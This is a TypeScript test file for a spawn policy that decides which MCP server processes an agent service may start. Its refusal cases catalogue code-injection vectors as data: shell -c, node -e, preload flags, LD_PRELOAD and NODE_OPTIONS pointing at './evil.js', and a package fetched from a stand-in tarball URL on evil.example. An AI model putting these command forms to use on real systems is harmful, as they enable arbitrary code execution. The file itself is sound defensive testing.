/** The spawn policy of runtime connects, as a pure function: what may start and what is refused before anything runs. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/config/index.ts';
import { isShared } from '../../src/config/shared.ts';
import { checkSpawn, programName, type SpawnPolicy, type SpawnRequest } from '../../src/tools/spawn/policy.ts';
import { runtimePolicyOf } from '../../src/tools/spawn/runtime-connect.ts';

const req = (command: string, args: string[] = [], env: Record<string, string> = {}, cwd?: string): SpawnRequest => ({
  command,
  args,
  env,
  ...(cwd && { cwd }),
});
const refusal = (r: SpawnRequest, policy: SpawnPolicy = {}) => {
  try {
    checkSpawn(r, policy);
  } catch (e) {
    return { code: (e as { code: string }).code, ...(e as { details: object }).details };
  }
  return undefined;
};

describe('spawn policy', () => {
  it.each([
    ['node with a script', req('node', ['path/to/server.js', '--port', '3'])],
    ['node flags before the script', req('/usr/bin/node', ['--max-old-space-size=512', 'server.mjs'])],
    ['the script’s own -e', req('node', ['server.js', '-e', 'x'])],
    ['npx with a scoped package', req('npx', ['-y', '@modelcontextprotocol/server-filesystem', '/tmp'])],
    ['python -m', req('python3.12', ['-m', 'mcp_server_fetch'])],
    ['a binary with flags', req('/opt/tools/mcp-server', ['--config', 'x.toml', '-c', 'y'])],
    ['bash running a script file', req('bash', ['./start.sh'])],
    ['plain env values', req('node', ['s.js'], { API_TOKEN: 'x', DEBUG: '1' })],
  ])('lets %s start', (_name, r) => {
    expect(refusal(r)).toBeUndefined();
  });

  it.each([
    ['sh -c', req('sh', ['-c', 'touch /tmp/x']), 'config.args.0'],
    ['bash -lc', req('/bin/bash', ['-lc', 'id']), 'config.args.0'],
    ['zsh --init-file', req('zsh', ['--init-file', 'x']), 'config.args.0'],
    ['node -e', req('node', ['-e', 'require("child_process")']), 'config.args.0'],
    ['node --eval=', req('nodejs', ['--eval=1']), 'config.args.0'],
    ['node -p', req('node', ['-p', '1']), 'config.args.0'],
    ['node -r', req('node', ['-r', './preload.js', 'server.js']), 'config.args.0'],
    ['node --import', req('node', ['--import=./x.mjs', 'server.js']), 'config.args.0'],
    ['python -c', req('python3', ['-c', 'import os']), 'config.args.0'],
    ['python -Bc', req('python', ['-Bc', 'import os']), 'config.args.0'],
    ['npx -c', req('npx', ['-c', 'id']), 'config.args.0'],
    ['npx --call', req('npx', ['--call=id']), 'config.args.0'],
    ['npx node -e', req('npx', ['-y', 'node', '-e', '1']), 'config.args.2'],
    ['npm exec -- bash -c', req('npm', ['exec', 'bash', '-c', 'id']), 'config.args.2'],
    ['env bash -c', req('env', ['X=1', 'bash', '-c', 'id']), 'config.args.2'],
    ['deno eval', req('deno', ['eval', 'Deno.exit()']), 'config.args.0'],
    ['deno eval after a valued flag', req('deno', ['-L', 'debug', 'eval', 'Deno.exit()']), 'config.args.2'],
    ['deno repl after a valued flag', req('deno', ['--log-level', 'info', 'repl']), 'config.args.2'],
    ['perl -e', req('perl', ['-e', 'print 1']), 'config.args.0'],
    ['node -pe (a combined cluster)', req('node', ['-pe', '1']), 'config.args.0'],
    ['node -r= form', req('node', ['-r=./x.js', 's.js']), 'config.args.0'],
    ['node --require= form', req('node', ['--require=./x.js', 's.js']), 'config.args.0'],
    ['node -e after a flag that takes a value', req('node', ['--title', 'x', '-e', '1']), 'config.args.2'],
    ['node --inspect', req('node', ['--inspect=0.0.0.0:9229', 's.js']), 'config.args.0'],
    ['node --run', req('node', ['--run', 'start']), 'config.args.0'],
    ['perl -le', req('perl', ['-le', 'print 1']), 'config.args.0'],
    ['perl -M with code', req('perl', ['-Mstrict;system("id")', 's.pl']), 'config.args.0'],
    ['ruby -rx', req('ruby', ['-ropen3', 's.rb']), 'config.args.0'],
    ['php -d auto_prepend_file', req('php', ['-dauto_prepend_file=/tmp/x.php', 's.php']), 'config.args.0'],
    ['bun --preload', req('bun', ['--preload', './x.ts', 's.ts']), 'config.args.0'],
    ['deno run --preload', req('deno', ['run', '--preload=./x.ts', 's.ts']), 'config.args.1'],
    ['npx --node-options', req('npx', ['--node-options=--require=/tmp/x.js', 'pkg']), 'config.args.0'],
    ['npx -yc (a cluster holding -c)', req('npx', ['-yc', 'id']), 'config.args.0'],
    ["npx --shell (npx's name for --script-shell)", req('npx', ['--shell=/bin/sh', 'pkg']), 'config.args.0'],
    ['npm exec -c', req('npm', ['exec', '-c', 'id']), 'config.args.1'],
    ['npm exec --yes -c', req('npm', ['exec', '--yes', '-c', 'id']), 'config.args.2'],
    ['npm -c before the subcommand', req('npm', ['-c', 'id', 'exec']), 'config.args.0'],
    ['npm --offline exec -c', req('npm', ['--offline', 'exec', '-c', 'id']), 'config.args.2'],
    [
      'npm exec <pkg> -c (npm reads it after the package too)',
      req('npm', ['exec', 'semver', '-c', 'id']),
      'config.args.2',
    ],
    ['npm x --call=', req('npm', ['x', '--call=id']), 'config.args.1'],
    ['npm exec --script-sh (a prefix npm expands)', req('npm', ['exec', '--script-sh=/tmp/x', 'pkg']), 'config.args.1'],
    [
      'npm exec --node-options',
      req('npm', ['exec', '--node-options=--import=data:text/javascript,1', 'pkg']),
      'config.args.1',
    ],
    ['pnpm dlx --shell-mode', req('pnpm', ['dlx', '--shell-mode', 'id']), 'config.args.1'],
    ['pnpm dlx -c', req('pnpm', ['dlx', '-c', 'id']), 'config.args.1'],
    ['tsx -e', req('tsx', ['-e', 'process.exit()']), 'config.args.0'],
    ['tsx --eval=', req('tsx', ['--eval=1']), 'config.args.0'],
    ['tsx -p', req('tsx', ['-p', '1']), 'config.args.0'],
    ['tsx --import of a data: URL', req('tsx', ['--import', 'data:text/javascript,1', 's.ts']), 'config.args.0'],
    ['tsx watch --require', req('tsx', ['watch', '--require=./x.cjs', 's.ts']), 'config.args.1'],
    ['npx tsx -e', req('npx', ['-y', 'tsx', '-e', '1']), 'config.args.2'],
    ['ts-node -e', req('ts-node', ['-e', '1']), 'config.args.0'],
    ['ts-node-esm --print', req('ts-node-esm', ['--print', '1']), 'config.args.0'],
    [
      'node --import of a data: URL',
      req('node', ['--import=data:text/javascript,process.exit()', 's.js']),
      'config.args.0',
    ],
    ['node --require of a data: URL', req('node', ['--require', 'data:text/javascript,1', 's.js']), 'config.args.0'],
    ['node --print', req('node', ['--print', '1']), 'config.args.0'],
  ])('refuses %s as inline code', (_name, r, field) => {
    expect(refusal(r)).toEqual({ code: 'INVALID_REQUEST', field, reason: 'inline_code' });
  });

  it.each([
    'NODE_OPTIONS',
    'LD_PRELOAD',
    'DYLD_INSERT_LIBRARIES',
    'PATH',
    'PYTHONPATH',
    'PYTHONSTARTUP',
    'BASH_ENV',
    'ENV',
    'npm_config_script_shell',
    'NPM_CONFIG_PREFIX',
    'JAVA_TOOL_OPTIONS',
  ])('refuses the loader env key %s', (key) => {
    expect(refusal(req('node', ['s.js'], { [key]: '--require ./evil.js' }))).toEqual({
      code: 'INVALID_REQUEST',
      field: `config.env.${key}`,
      reason: 'loader_env',
    });
  });

  it('refuses a loader key set through an env launcher', () => {
    expect(refusal(req('env', ['NODE_OPTIONS=--require=x', 'node', 's.js']))).toEqual({
      code: 'INVALID_REQUEST',
      field: 'config.args.0',
      reason: 'loader_env',
    });
  });

  it('refuses NUL bytes anywhere', () => {
    expect(refusal(req('node\0', []))).toMatchObject({ field: 'config.command', reason: 'nul_byte' });
    expect(refusal(req('node', ['s.js\0-e']))).toMatchObject({ field: 'config.args.0', reason: 'nul_byte' });
    expect(refusal(req('node', ['s.js'], { A: 'x\0y' }))).toMatchObject({ field: 'config.env.A', reason: 'nul_byte' });
    expect(refusal(req('node', ['s.js'], {}, '/tmp\0'))).toMatchObject({ field: 'config.cwd', reason: 'nul_byte' });
  });

  it('with allowedCommands, runs only the listed executables', () => {
    const policy = { allowedCommands: ['node', '/opt/tools/mcp-server'] };
    expect(refusal(req('/usr/bin/node', ['s.js']), policy)).toBeUndefined();
    expect(refusal(req('/opt/tools/mcp-server'), policy)).toBeUndefined();
    expect(refusal(req('mcp-server'), policy)).toEqual({
      code: 'INVALID_REQUEST',
      field: 'config.command',
      reason: 'command_not_allowed',
    });
    expect(refusal(req('python3', ['-m', 'x']), policy)).toMatchObject({ reason: 'command_not_allowed' });
  });

  it("keeps allowing what is not code: values of flags, the script's own arguments", () => {
    expect(refusal(req('node', ['--title', 'srv', 'server.js', '-e', 'x']))).toBeUndefined();
    expect(refusal(req('npm', ['exec', '--', 'mcp-server', '-c', 'config.json']))).toBeUndefined(); // after `--`: the package's
    expect(refusal(req('npx', ['-y', 'mcp-server', '-c', 'config.json']))).toBeUndefined(); // npx reads its options before the package only
    expect(refusal(req('npm', ['exec', '--global', '--cache', '/tmp/c', 'pkg']))).toBeUndefined();
    expect(refusal(req('tsx', ['--tsconfig', 'tsconfig.json', 'server.ts', '-e']))).toBeUndefined();
    expect(refusal(req('node', ['-C', 'development', 'server.js']))).toBeUndefined();
    expect(refusal(req('python3', ['-W', 'ignore', 'server.py', '-c', 'x']))).toBeUndefined();
  });

  it('names programs by file name, without versions or .exe', () => {
    expect(['/usr/bin/python3.11', 'NODE.EXE', 'nodejs', 'pypy3', 'ts-node-esm', 'npx.cmd'].map(programName)).toEqual([
      'python',
      'node',
      'node',
      'pypy',
      'ts-node',
      'npx',
    ]);
  });
});

/** The service is shared when any credential is configured or it binds beyond loopback (src/config/shared.ts). */
describe('isShared', () => {
  const config = (server: Record<string, unknown> = {}) => parseConfig({ llm: { model: 'm' }, server });
  it.each([
    ['no keys, loopback', config(), '127.0.0.1', false],
    ['no keys, localhost', config(), 'localhost', false],
    ['no keys, ::1', config(), '::1', false],
    ['no keys, no bind host known', config(), undefined, false],
    ['an API key', config({ auth: { apiKey: 'k'.repeat(16) } }), '127.0.0.1', true],
    ['an admin key', config({ auth: { adminKey: 'k'.repeat(16) } }), '127.0.0.1', true],
    [
      'a named key',
      config({ auth: { keys: [{ name: 'ci', key: 'k'.repeat(16), scopes: ['chat'] }] } }),
      '127.0.0.1',
      true,
    ],
    [
      'JWT principals',
      config({ auth: { jwt: { issuer: 'https://id.example', audience: 'agentd', jwksFile: 'jwks.json' } } }),
      '127.0.0.1',
      true,
    ],
    ['a non-loopback bind', config(), '0.0.0.0', true],
    ['server.host beyond loopback', config({ host: '10.0.0.5' }), undefined, true],
    ['--host loopback over server.host', config({ host: '0.0.0.0' }), '127.0.0.1', false],
  ])('%s → %s', (_name, c, host, shared) => {
    expect(isShared(c, host)).toBe(shared);
  });
});

/**
 * Shared mode (issue 57 item 3): only what `server.mcp.allowedCommands` lists (else the agent file's own stdio
 * servers, exactly) runs: commands as written with their argument patterns, packages by name through launchers.
 * Every chain of the black-box runs is refused, whatever file it would find.
 */
describe('spawn policy of a shared service', () => {
  const policyOf = (allowedCommands?: unknown[], mcpServers: Record<string, unknown> = {}): SpawnPolicy =>
    runtimePolicyOf(
      parseConfig({
        llm: { model: 'm' },
        mcpServers,
        server: { mcp: { ...(allowedCommands && { allowedCommands }) } },
      }),
      { shared: true },
    );
  const listed = policyOf([
    '/opt/tools/mcp-server',
    { command: '/usr/bin/node', args: ['/srv/agent/server.js', '--port', '*'], env: ['DEBUG'] },
    { package: '@modelcontextprotocol/server-filesystem', args: ['**'] },
    { package: 'mcp-server-time', version: '1.2.0' },
    { package: 'mcp-server-fetch', env: ['FETCH_UA'] },
  ]);
  const at = (field: string, reason: string) => ({ code: 'INVALID_REQUEST', field, reason });

  it.each([
    [
      'node <a script the filesystem server wrote>',
      req('node', ['planted.mjs']),
      'config.command',
      'command_not_allowed',
    ],
    [
      'the listed node on another script',
      req('/usr/bin/node', ['planted.mjs']),
      'config.args.0',
      'command_not_allowed',
    ],
    [
      'the listed node, flags first',
      req('/usr/bin/node', ['--max-old-space-size=9', '/srv/agent/server.js', '--port', '1']),
      'config.args.0',
      'command_not_allowed',
    ],
    [
      'a planted ./node',
      req('./node', ['/srv/agent/server.js', '--port', '1']),
      'config.command',
      'command_not_allowed',
    ],
    [
      'npx why-is-node-running',
      req('npx', ['-y', 'why-is-node-running', 'planted.js']),
      'config.args.1',
      'package_not_allowed',
    ],
    [
      'npx eslint -c',
      req('npx', ['-y', 'eslint', '-c', 'planted.config.js', 'x']),
      'config.args.1',
      'package_not_allowed',
    ],
    [
      'npx prettier --plugin',
      req('npx', ['prettier', '--plugin', './planted.mjs', 'x']),
      'config.args.0',
      'package_not_allowed',
    ],
    [
      'npx vite (its config)',
      req('npx', ['-y', 'vite', '--config', 'planted.mjs']),
      'config.args.1',
      'package_not_allowed',
    ],
    ['npx vitest (its config)', req('npx', ['vitest', 'run']), 'config.args.0', 'package_not_allowed'],
    ['npx rolldown -c', req('npx', ['rolldown', '-c', 'planted.mjs']), 'config.args.0', 'package_not_allowed'],
    [
      'npm exec @npmcli/arborist reify',
      req('npm', ['exec', '--yes', '@npmcli/arborist', 'reify']),
      'config.args.2',
      'package_not_allowed',
    ],
    [
      'npx node-gyp --python',
      req('npx', ['node-gyp', 'rebuild', '--python=./planted']),
      'config.args.0',
      'package_not_allowed',
    ],
    ['npx node <script>', req('npx', ['-y', 'node', 'planted.mjs']), 'config.args.1', 'package_not_allowed'],
    [
      'a listed package with a launcher flag',
      req('npx', ['--package=evil', 'mcp-server-fetch']),
      'config.args.0',
      'package_not_allowed',
    ],
    [
      'a listed package from a tarball URL',
      req('npx', ['-y', 'mcp-server-fetch@https://evil.example/x.tgz']),
      'config.args.1',
      'package_not_allowed',
    ],
    ['a listed package as an alias', req('npx', ['mcp-server-fetch@npm:evil']), 'config.args.0', 'package_not_allowed'],
    [
      'a listed package at another version',
      req('uvx', ['mcp-server-time==9.9.9']),
      'config.args.0',
      'package_not_allowed',
    ],
    [
      'a listed package with arguments none allows',
      req('npx', ['-y', 'mcp-server-time@1.2.0', '--evil']),
      'config.args.2',
      'command_not_allowed',
    ],
    [
      'a launcher by path',
      req('/tmp/planted/npx', ['-y', 'mcp-server-fetch']),
      'config.command',
      'command_not_allowed',
    ],
    [
      'OPENSSL_CONF',
      req('npx', ['-y', 'mcp-server-fetch'], { OPENSSL_CONF: '/tmp/planted.cnf' }),
      'config.env.OPENSSL_CONF',
      'env_not_allowed',
    ],
    [
      'NODE_REDIRECT_WARNINGS',
      req('/usr/bin/node', ['/srv/agent/server.js', '--port', '1'], { NODE_REDIRECT_WARNINGS: '/x' }),
      'config.env.NODE_REDIRECT_WARNINGS',
      'env_not_allowed',
    ],
    [
      'NODE_V8_COVERAGE',
      req('/opt/tools/mcp-server', [], { NODE_V8_COVERAGE: '/x' }),
      'config.env.NODE_V8_COVERAGE',
      'env_not_allowed',
    ],
    ['a cwd of its own', req('/opt/tools/mcp-server', [], {}, '/tmp/planted'), 'config.cwd', 'cwd_not_allowed'],
    [
      'a string entry with arguments',
      req('/opt/tools/mcp-server', ['--config', 'x']),
      'config.args.0',
      'command_not_allowed',
    ],
    ['touch', req('touch', ['/tmp/c']), 'config.command', 'command_not_allowed'],
    ['timeout before sh -c', req('timeout', ['5', 'sh', '-c', 'x']), 'config.command', 'command_not_allowed'],
  ])('refuses %s', (_name, r, field, reason) => {
    expect(refusal(r, listed)).toEqual(at(field, reason));
  });

  it.each([
    [
      'a listed command with its pattern',
      req('/usr/bin/node', ['/srv/agent/server.js', '--port', '3000'], { DEBUG: '1' }),
    ],
    ['a string entry', req('/opt/tools/mcp-server')],
    [
      'a listed package with any arguments',
      req('npx', ['-y', '@modelcontextprotocol/server-filesystem', '/data', '/srv']),
    ],
    [
      'the same through npm exec, pnpm dlx, yarn dlx, bunx',
      req('pnpm', ['dlx', '@modelcontextprotocol/server-filesystem']),
    ],
    ['a listed version', req('npx', ['--yes', '--', 'mcp-server-time@1.2.0'])],
    ['a listed version through uvx', req('uvx', ['mcp-server-time==1.2.0'])],
    ['a package listed without version, at a plain one', req('bunx', ['mcp-server-fetch@latest'], { FETCH_UA: 'x' })],
  ])('lets %s start', (_name, r) => {
    expect(refusal(r, listed)).toBeUndefined();
  });

  it("without allowedCommands, runs the agent file's own stdio servers exactly as written, nothing else", () => {
    const own = policyOf(undefined, {
      notes: { type: 'stdio', command: '/usr/bin/node', args: ['/srv/notes.js'], env: { TOKEN: 'x' } },
      everything: { type: 'stdio', command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything'] },
    });
    expect(refusal(req('/usr/bin/node', ['/srv/notes.js'], { TOKEN: 'y' }), own)).toBeUndefined();
    expect(refusal(req('npx', ['-y', '@modelcontextprotocol/server-everything']), own)).toBeUndefined();
    expect(refusal(req('/usr/bin/node', ['planted.mjs']), own)).toEqual(at('config.args.0', 'command_not_allowed'));
    expect(refusal(req('npx', ['-y', 'eslint']), own)).toEqual(at('config.args.0', 'command_not_allowed'));
  });

  it('says which config key to set', () => {
    try {
      checkSpawn(req('touch', ['/tmp/c']), listed);
      expect.unreachable();
    } catch (e) {
      expect((e as Error).message).toMatch(
        /runs only what the operator listed: list it in server\.mcp\.allowedCommands/,
      );
    }
  });

  it("keeps today's rules when not shared: allowedCommands names executables (a package entry: the launchers)", () => {
    for (const r of [req('touch', ['/tmp/c']), req('node', ['planted.mjs']), req('awk', ['BEGIN{}'])])
      expect(refusal(r)).toBeUndefined();
    const single = runtimePolicyOf(
      parseConfig({ llm: { model: 'm' }, server: { mcp: { allowedCommands: ['node', { package: 'x' }] } } }),
      { shared: false },
    );
    expect(refusal(req('node', ['planted.mjs']), single)).toBeUndefined();
    expect(refusal(req('npx', ['-y', 'anything']), single)).toBeUndefined();
    expect(refusal(req('touch', ['/tmp/c']), single)).toEqual(at('config.command', 'command_not_allowed'));
  });
});

/** The deny-list reads a program's bin as that program (npm's npm-cli.js, tsx's cli), in every mode. */
describe("spawn policy: packages' bins", () => {
  const root = mkdtempSync(join(tmpdir(), 'agentd-bins-'));
  const global = join(root, 'lib', 'node_modules');
  const file = (path: string, text = '') => {
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, text);
  };
  const npm = join(global, 'npm');
  file(join(npm, 'package.json'), JSON.stringify({ name: 'npm', bin: { npm: 'bin/npm-cli.js' } }));
  file(join(npm, 'bin', 'npm-cli.js'));
  const tsx = join(global, 'tsx');
  file(join(tsx, 'package.json'), JSON.stringify({ name: 'tsx', bin: './dist/cli.mjs' }));
  file(join(tsx, 'dist', 'cli.mjs'));
  file(join(global, 'other', 'lib.js'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const at = (field: string, reason: string) => ({ code: 'INVALID_REQUEST', field, reason });

  it("refuses inline code through a program's bin", () => {
    expect(refusal(req('node', [join(npm, 'bin', 'npm-cli.js'), 'exec', '-c', 'id']))).toEqual(
      at('config.args.2', 'inline_code'),
    );
    expect(refusal(req('node', [join(tsx, 'dist', 'cli.mjs'), '-e', '1']))).toEqual(at('config.args.1', 'inline_code'));
    expect(refusal(req('node', [join(global, 'other', 'lib.js')]))).toBeUndefined(); // not shared: any script
  });
});
